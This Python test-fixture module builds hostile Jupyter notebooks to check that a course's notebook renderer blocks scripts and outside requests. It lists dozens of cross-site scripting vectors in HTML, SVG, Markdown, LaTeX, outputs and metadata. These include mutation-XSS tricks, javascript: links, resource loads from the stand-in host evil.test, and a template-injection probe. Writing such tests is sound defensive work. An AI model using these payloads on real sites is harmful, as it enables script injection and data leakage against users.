"""Notebooks that try to run a script in their page or to ask the network for something: one trick each.

A script that runs sets ``window.ran``; what is asked for lies at ``http://evil.test``.
"""

from __future__ import annotations

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from notebooks import notebook, png, stream

from gan_course.ledger import pages as ledger

RUN = "window.ran=1"
EVIL = "http://evil.test"


def shown(kind: str, content: object, **metadata: object) -> NotebookNode:
    """A code cell with one output of this kind."""
    output = new_output("display_data", {kind: content}, metadata=metadata)
    return new_code_cell("1", outputs=[output])


def html(content: str) -> NotebookNode:
    return shown("text/html", content)


# Tricks that work wherever HTML is taken as it is: in a text cell, and in an output.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{EVIL}/a.js'></script>",
    "module": f"<script type=module>import '{EVIL}/a.mjs'; {RUN}</script>",
    "script in capitals with a slash": f"<SCRIPT/x>{RUN}</SCRIPT>",
    "script never closed": f"<script>{RUN};//",
    "script in a script's text": f"<scr<script></script>ipt>{RUN}</scr<script></script>ipt>",
    "picture that fails": f"<img src=x: onerror={RUN}>",
    "picture from elsewhere": f"<img src={EVIL}/a.png srcset='{EVIL}/b.png 2x'>",
    "address without a protocol": "<img src=//evil.test/a.png><img src='\\\\evil.test\\a.png'>",
    "picture element": f"<picture><source srcset={EVIL}/a.png><img src=x></picture>",
    "drawing": f"<svg onload={RUN}><script>{RUN}</script><image href={EVIL}/a.png /></svg>",
    "drawing that moves": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "drawing with a page in it": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></svg>",
    "drawing that uses data": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\">#x'></svg>",
    "frame": f"<iframe src={EVIL}></iframe><iframe src='javascript:parent.{RUN}'></iframe>",
    "frame with a page in it": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object and embed": f"<object data={EVIL}/a></object><embed src={EVIL}/b>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "refresh into a script": f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    "base": f"<base href={EVIL}/><img src=a.png>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/b>",
    "preload": f"<link rel=preload as=image href={EVIL}/a.png><link rel=modulepreload href={EVIL}/b.mjs>",
    "style": f"<style>@import '{EVIL}/a.css'; body {{ background: url({EVIL}/a.png) }}</style>",
    "style of an element": f"<p style='background: url({EVIL}/a.png); cursor: url({EVIL}/c.cur), auto'>x</p>",
    "fold that opens": f"<details open ontoggle={RUN}><summary>x</summary>y</details>",
    "field in focus": f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
    "button of a form": f"<form action={EVIL}><input type=image src={EVIL}/a.png>"
    f"<button autofocus onfocus={RUN}>x</form>",
    "film and sound": f"<video poster={EVIL}/a.png src={EVIL}/a.mp4 autoplay></video><audio src={EVIL}/a.mp3 autoplay>",
    "source that fails": f"<video><source onerror={RUN} src={EVIL}/a.mp4></video>",
    "running text": f"<marquee onstart={RUN}>x</marquee>",
    "background": f"<table background={EVIL}/a.png><tr><td background={EVIL}/b.png>x</table>",
    "body": f"<body onload={RUN} background={EVIL}/a.png>",
    "animation": f"<style>@keyframes k {{ }}</style><p style='animation: k 1s' onanimationstart={RUN}>x</p>",
    "end of the page": f"</div></main></body></html><script>{RUN}</script>",
    "comment that ends early": f"<!--><img src=x: onerror={RUN}>--><!--[if true]><script>{RUN}</script><![endif]-->",
    "mutation in mathematics": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x: onerror={RUN}&gt;'>",
    "mutation in a drawing": f"<svg></p><style><a id='</style><img src=x: onerror={RUN}>'>",
    "mutation without scripts": f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'></noscript>",
    "mutation in a raw text": f"<xmp><p title='</xmp><img src=x: onerror={RUN}>'></xmp>",
    "mutation in a title": f"<title><p title='</title><img src=x: onerror={RUN}>'></title>",
    "template": f"<template shadowrootmode=open><img src=x: onerror={RUN}></template><div>"
    f"<template shadowrootmode=open><script>{RUN}</script></template></div>",
    "null in a name": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x: on\0error={RUN}>",
    "link into a script": f"<a href='javascript:{RUN}'>x</a><a href='jav&#x0A;ascript:{RUN}'>y</a>",
    "link into data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a><a href='&#14; javascript:{RUN}'>y</a>",
    "link that reports": f"<a href='#a' ping={EVIL} onmouseover={RUN}>x</a><a href='vbscript:x'>y</a>",
    "attribute with a quote": f"<p title='\"><img src=x: onerror={RUN}>' id='\"><script>{RUN}</script>'>x</p>",
    "mathematics with a link": f"<math><mi href='javascript:{RUN}'>x</mi><annotation-xml encoding='text/html'>"
    f"<img src=x: onerror={RUN}></annotation-xml></math>",
    "script like the course's": ledger.START.replace("CHOOSE", "2").replace("TABLE", f'x"); {RUN}; ("'),
    "script that begins like the course's": ledger.library().replace("</script>", f";{RUN}</script>"),
    "the course's script on a table that fetches": f"{ledger.library()}<div class=gc-review><table id=gc-ledger "
    f"data-ajax={EVIL}/a.json data-server-side=true><thead><tr>"
    f"<th data-render='{EVIL}'>&lt;img src=x: onerror={RUN}&gt;<tbody>"
    f"<tr><td data-order='<img src=x: onerror={RUN}>'>&lt;img src=x: onerror={RUN}&gt;</table></div>"
    + ledger.START.replace("TABLE", "gc-ledger").replace("CHOOSE", "0"),
    "the course's style in an attribute": f"<p title='{ledger.STYLE}'>x</p><p title='{ledger.START}'>y</p>",
}


def others() -> dict[str, NotebookNode]:
    """Tricks in other places of a notebook."""
    cells = {
        "Markdown link": new_markdown_cell(f"[x](javascript:{RUN}) [y](<data:text/html,<script>{RUN}</script>>)"),
        "Markdown picture": new_markdown_cell(f"![x]({EVIL}/a.png) ![y](//evil.test/b.png) ![z](javascript:{RUN})"),
        "Markdown picture with a quote": new_markdown_cell(f'![" onerror="{RUN}](x: "a\\" onerror=\\"{RUN}")'),
        "Markdown code's language": new_markdown_cell(f'```"><script>{RUN}</script>\nx\n```'),
        "Markdown diagram": new_markdown_cell(f"```mermaid\n</pre><script>{RUN}</script>\n```"),
        "Markdown heading": new_markdown_cell(f'# <img src=x: onerror={RUN}>\n\n## x" onclick="{RUN}'),
        "formula with a picture": new_markdown_cell(
            rf"$\text{{<img src=x: onerror={RUN}>}}$ and $$a <script>{RUN}</script>$$"
        ),
        "formula with a link": new_markdown_cell(rf"$\href{{javascript:{RUN}}}{{x}} \class{{a' onclick='{RUN}}}{{y}}$"),
        "formula in an attribute": new_markdown_cell(
            rf"<p title='$\text{{' onmouseover='{RUN}}}$'>x</p> " + '![$\\text{" onerror="' + RUN + "}$](x:)"
        ),
        "attachment": new_markdown_cell(
            "![a](attachment:a.html)", attachments={"a.html": {"text/html": f"<script>{RUN}"}}
        ),
        "raw cell": new_raw_cell(
            f"<script>{RUN}</script><img src=x: onerror={RUN}>", metadata={"raw_mimetype": "text/html"}
        ),
        "JavaScript": shown("application/javascript", RUN),
        "SVG": shown(
            "image/svg+xml",
            f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script>"
            f"<image href='{EVIL}/a.png'/></svg>",
        ),
        "LaTeX": shown("text/latex", f"$x$<script>{RUN}</script>"),
        "diagram": shown("text/vnd.mermaid", f"</pre><script>{RUN}</script><img src=x: onerror={RUN}>"),
        "plain text": shown("text/plain", f"<script>{RUN}</script>\x1b[31m<img src=x: onerror={RUN}>"),
        "PNG that is none": shown("image/png", f'x"><script>{RUN}</script>'),
        "PNG's text": shown(
            "image/png", png(), **{"image/png": {"alt": f'"><script>{RUN}</script>', "width": f"1 onload={RUN}"}}
        ),
        "JPEG's width": shown("image/jpeg", png(), **{"image/jpeg": {"width": f"1 onerror={RUN} onload={RUN}"}}),
        "JPEG that is none": shown("image/jpeg", f'x" onerror="{RUN}'),
        "unknown kind": shown("text/x-evil", f"<script>{RUN}</script>"),
        "widget": shown("application/vnd.jupyter.widget-view+json", {"model_id": f"</script><script>{RUN}</script>"}),
        "printed": new_code_cell(
            "1", outputs=[stream(f"<script>{RUN}</script>\x1b[1m<img src=x: onerror={RUN}>\x1b[0m")]
        ),
        "error": new_code_cell(
            "1",
            outputs=[
                new_output(
                    "error",
                    ename=f"<script>{RUN}</script>",
                    evalue="x",
                    traceback=[f"<img src=x: onerror={RUN}>", f"\x1b[31m<script>{RUN}</script>"],
                )
            ],
        ),
        "source": new_code_cell(f"# <script>{RUN}</script>\n'<img src=x: onerror={RUN}>'"),
        "tags": new_code_cell("1", metadata={"tags": [f'"><script>{RUN}</script>']}),
        "magic": new_code_cell(
            f"%%html\n<script>{RUN}</script>", metadata={"magics_language": f"<script>{RUN}</script>"}
        ),
        "template": new_markdown_cell(
            "{{ resources }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
        ),
    }
    made = {name: notebook(cell) for name, cell in cells.items()}
    made["title"] = notebook(new_markdown_cell("x"))
    made["title"].metadata.title = f"</title><script>{RUN}</script>"
    made["language"] = notebook(new_code_cell("1"))
    made["language"].metadata.language_info = {"name": f"<script>{RUN}</script>", "pygments_lexer": f"<script>{RUN}"}
    made["widgets' state"] = notebook(new_markdown_cell("x"))
    made["widgets' state"].metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script><script>{RUN}</script>"}}
    }
    return made


def hostile() -> dict[str, NotebookNode]:
    """All of them, by name."""
    made = {f"text cell: {name}": notebook(new_markdown_cell(content)) for name, content in MARKUP.items()}
    made |= {f"output: {name}": notebook(html(content)) for name, content in MARKUP.items()}
    made |= {
        f"Markdown output: {name}": notebook(shown("text/markdown", MARKUP[name]))
        for name in ("script", "picture that fails", "frame")
    }
    made |= {f"elsewhere: {name}": content for name, content in others().items()}
    return {name: nbformat.from_dict(content) for name, content in made.items()}
